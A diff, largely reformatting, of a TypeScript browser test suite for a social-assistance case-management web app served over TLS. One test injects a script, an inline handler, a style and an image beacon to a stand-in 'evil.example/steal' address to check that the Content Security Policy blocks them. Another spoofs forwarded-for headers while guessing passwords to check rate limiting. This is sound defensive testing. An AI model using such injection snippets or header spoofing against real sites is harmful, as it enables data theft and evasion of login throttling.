@@ -35,23 +35,46 @@ beforeAll(async () => {
   directory = await mkdtemp(join(tmpdir(), 'doudi-tls-'))
   inner = await freePort()
   program = spawn(process.execPath, [join(checkoutDirectory, 'src/app/main.ts'), 'serve'], {
-    env: { PATH: process.env['PATH'], PORT: String(inner), DOUDI_DATA: join(directory, 'data'), DOUDI_DEMO: 'small', DOUDI_HTTPS: '1', DOUDI_LOG: 'error', DOUDI_DB_MEMORY_MB: '64', DOUDI_LAKE_MEMORY_MB: '512' }, stdio: ['ignore', 'pipe', 'pipe'],
+    env: {
+      PATH: process.env['PATH'],
+      PORT: String(inner),
+      DOUDI_DATA: join(directory, 'data'),
+      DOUDI_DEMO: 'small',
+      DOUDI_HTTPS: '1',
+      DOUDI_LOG: 'error',
+      DOUDI_DB_MEMORY_MB: '64',
+      DOUDI_LAKE_MEMORY_MB: '512',
+    },
+    stdio: ['ignore', 'pipe', 'pipe'],
   })
-  for (const stream of [program.stdout, program.stderr]) stream?.on('data', (part: Buffer) => { printed += part.toString() })
+  for (const stream of [program.stdout, program.stderr])
+    stream?.on('data', (part: Buffer) => {
+      printed += part.toString()
+    })
   for (let tries = 0; !printed.includes('兜底平台已启动'); tries++) {
     if (tries > 1_500 || program.exitCode !== null) throw new Error(`not started: ${printed.slice(-1_000)}`)
     await sleep(200)
   }
   proxy = createServer(selfSigned(), (incoming, outgoing) => {
     const { 'x-forwarded-for': _foreign, ...headers } = incoming.headers
-    const onward = request({ port: inner, method: incoming.method, path: incoming.url, headers: { ...headers, 'x-forwarded-for': '203.0.113.9', 'x-forwarded-proto': 'https' } }, (reply) => {
-      cookies.push(...(reply.headers['set-cookie'] ?? []))
-      outgoing.writeHead(reply.statusCode ?? 502, reply.headers)
-      reply.pipe(outgoing)
-    })
+    const onward = request(
+      {
+        port: inner,
+        method: incoming.method,
+        path: incoming.url,
+        headers: { ...headers, 'x-forwarded-for': '203.0.113.9', 'x-forwarded-proto': 'https' },
+      },
+      (reply) => {
+        cookies.push(...(reply.headers['set-cookie'] ?? []))
+        outgoing.writeHead(reply.statusCode ?? 502, reply.headers)
+        reply.pipe(outgoing)
+      },
+    )
     incoming.pipe(onward)
   })
-  await new Promise<void>((resolve) => { proxy.listen(0, '127.0.0.1', resolve) })
+  await new Promise<void>((resolve) => {
+    proxy.listen(0, '127.0.0.1', resolve)
+  })
   outer = `https://localhost:${String((proxy.address() as AddressInfo).port)}`
   // The phone's worker is fetched only under a certificate the whole browser accepts.
   browser = await launchBrowser(['--ignore-certificate-errors'])
@@ -60,7 +83,9 @@ afterAll(async () => {
   await browser.close()
   proxy.closeAllConnections()
   proxy.close()
-  const ended = new Promise((resolve) => { program.once('exit', resolve) })
+  const ended = new Promise((resolve) => {
+    program.once('exit', resolve)
+  })
   program.kill('SIGTERM')
   await ended
   await rm(directory, { recursive: true, force: true })
@@ -73,7 +98,10 @@ function contextOf(viewport: { width: number; height: number }): Promise<Browser
 async function open(context: BrowserContext): Promise<Page> {
   const page = await context.newPage()
   page.on('request', (each) => asked.push(each.url()))
-  page.on('console', (message) => { if (message.type() === 'error' && /Content Security Policy|Mixed Content/i.test(message.text())) complaints.push(`${page.url()}: ${message.text()}`) })
+  page.on('console', (message) => {
+    if (message.type() === 'error' && /Content Security Policy|Mixed Content/i.test(message.text()))
+      complaints.push(`${page.url()}: ${message.text()}`)
+  })
   page.on('pageerror', (error) => complaints.push(`${page.url()}: ${error.message}`))
   return page
 }
@@ -87,14 +115,71 @@ async function signIn(page: Page, login: string): Promise<void> {
 /** Addresses of details, taken from the lists themselves: the first of each kind. */
 async function detailsOf(page: Page): Promise<string[]> {
   const first = async (path: string, key: string): Promise<string> => {
-    const { rows = [] } = await (await page.request.get(`${outer}${path}`)).json() as { rows?: Record<string, string | number>[] }
+    const { rows = [] } = (await (await page.request.get(`${outer}${path}`)).json()) as { rows?: Record<string, string | number>[] }
     return String(rows[0]?.[key] ?? 1)
   }
-  const [alert, household, visit, lead, run, imported] = [await first('/api/alerts', 'id'), await first('/api/households', 'householdNo'), await first('/api/visits', 'id'), await first('/api/leads', 'id'), await first('/api/screenings', 'id'), await first('/api/imports', 'id')]
-  return [`/alerts/${alert}`, `/households/${household}`, `/households/${household}?tab=chain`, `/households/${household}/statement`, `/visits/${visit}`, `/leads/${lead}`, `/screenings/${run}`, `/screenings/${run}/hits`, `/screenings/${run}/data`, `/imports/${imported}`, '/catalogue/dibao-roster', '/policy/programmes/dibao', '/policy/cards/dibao']
+  const [alert, household, visit, lead, run, imported] = [
+    await first('/api/alerts', 'id'),
+    await first('/api/households', 'householdNo'),
+    await first('/api/visits', 'id'),
+    await first('/api/leads', 'id'),
+    await first('/api/screenings', 'id'),
+    await first('/api/imports', 'id'),
+  ]
+  return [
+    `/alerts/${alert}`,
+    `/households/${household}`,
+    `/households/${household}?tab=chain`,
+    `/households/${household}/statement`,
+    `/visits/${visit}`,
+    `/leads/${lead}`,
+    `/screenings/${run}`,
+    `/screenings/${run}/hits`,
+    `/screenings/${run}/data`,
+    `/imports/${imported}`,
+    '/catalogue/dibao-roster',
+    '/policy/programmes/dibao',
+    '/policy/cards/dibao',
+  ]
 }
 
-const lists = ['/', '/alerts', '/alerts/new', '/dispatch', '/households', '/households/persons', '/households/duplicates', '/households/conflicts', '/households/corrections', '/visits', '/visits/due', '/leads', '/dispatch/rules', '/screenings', '/indicators', '/standards', '/standards/new', '/standards/proposals', '/exemptions', '/alert-quality', '/catalogue', '/imports', '/imports/scores', '/imports/new', '/reports', '/reports/help', '/reports/help-events', '/policy', '/policy/programmes', '/policy/figures', '/policy/coverage', '/policy/search', '/exports', '/safety', '/my-posts']
+const lists = [
+  '/',
+  '/alerts',
+  '/alerts/new',
+  '/dispatch',
+  '/households',
+  '/households/persons',
+  '/households/duplicates',
+  '/households/conflicts',
+  '/households/corrections',
+  '/visits',
+  '/visits/due',
+  '/leads',
+  '/dispatch/rules',
+  '/screenings',
+  '/indicators',
+  '/standards',
+  '/standards/new',
+  '/standards/proposals',
+  '/exemptions',
+  '/alert-quality',
+  '/catalogue',
+  '/imports',
+  '/imports/scores',
+  '/imports/new',
+  '/reports',
+  '/reports/help',
+  '/reports/help-events',
+  '/policy',
+  '/policy/programmes',
+  '/policy/figures',
+  '/policy/coverage',
+  '/policy/search',
+  '/exports',
+  '/safety',
+  '/my-posts',
+]
 
 async function look(page: Page, path: string): Promise<void> {
   await page.goto(outer + path)
@@ -108,10 +193,19 @@ test('every screen of the desk works under the policy, over TLS only', async () 
   const page = await open(context)
   await look(page, '/')
   await signIn(page, 'county')
-  for (const path of [...lists, ...await detailsOf(page)]) await look(page, path)
+  for (const path of [...lists, ...(await detailsOf(page))]) await look(page, path)
   // Styles that antd writes while the page runs are taken: its button has its own height.
-  expect(await page.locator('.ant-btn').first().evaluate((button) => getComputedStyle(button).display)).toMatch(/flex/)
-  for (const [login, paths] of [['auditor', ['/ledger']], ['admin', ['/users', '/posts']], ['security', ['/second-factors', '/']]] as const) {
+  expect(
+    await page
+      .locator('.ant-btn')
+      .first()
+      .evaluate((button) => getComputedStyle(button).display),
+  ).toMatch(/flex/)
+  for (const [login, paths] of [
+    ['auditor', ['/ledger']],
+    ['admin', ['/users', '/posts']],
+    ['security', ['/second-factors', '/']],
+  ] as const) {
     await signIn(page, login)
     for (const path of paths) await look(page, path)
   }
@@ -147,14 +241,20 @@ test('a script, a style and a request that somebody smuggles into a page are sto
     const script = document.createElement('script')
     script.textContent = 'window.stolen = 1'
     document.body.append(script)
-    document.body.insertAdjacentHTML('beforeend', '<style>body { background: rgb(1, 2, 3) !important }</style><a id="smuggled" onclick="window.stolen = 1">x</a>')
+    document.body.insertAdjacentHTML(
+      'beforeend',
+      '<style>body { background: rgb(1, 2, 3) !important }</style><a id="smuggled" onclick="window.stolen = 1">x</a>',
+    )
     document.getElementById('smuggled')?.click()
     const image = document.createElement('img')
     image.src = 'https://evil.example/steal?who=1'
     document.body.append(image)
   })
   await page.waitForTimeout(300)
-  expect(await page.evaluate(() => ['stolen' in window, getComputedStyle(document.body).backgroundColor])).toEqual([false, expect.not.stringContaining('1, 2, 3') as string])
+  expect(await page.evaluate(() => ['stolen' in window, getComputedStyle(document.body).backgroundColor])).toEqual([
+    false,
+    expect.not.stringContaining('1, 2, 3') as string,
+  ])
   expect(complaints.filter((line) => line.includes('Content Security Policy')).length).toBeGreaterThanOrEqual(3)
   await context.close()
 })
@@ -166,7 +266,11 @@ test('cookies, strict transport, and the address of whoever guesses passwords', 
   const reply = await context.request.get(outer)
   expect(reply.headers()['strict-transport-security']).toBe('max-age=63072000')
   // Seven wrong passwords through the proxy; the eighth, whatever it says of itself, is still the same stranger.
-  const guess = (login: string, from: string) => context.request.post(`${outer}/api/session`, { data: { login, password: 'wrong wrong' }, headers: { 'x-doudi': '1', 'x-forwarded-for': from } })
+  const guess = (login: string, from: string) =>
+    context.request.post(`${outer}/api/session`, {
+      data: { login, password: 'wrong wrong' },
+      headers: { 'x-doudi': '1', 'x-forwarded-for': from },
+    })
   for (let tries = 0; tries < 7; tries++) await guess(`nobody${String(tries)}`, `198.51.100.${String(tries)}`)
   expect((await guess('somebody', '198.51.100.99')).status()).toBe(429)
   await context.close()
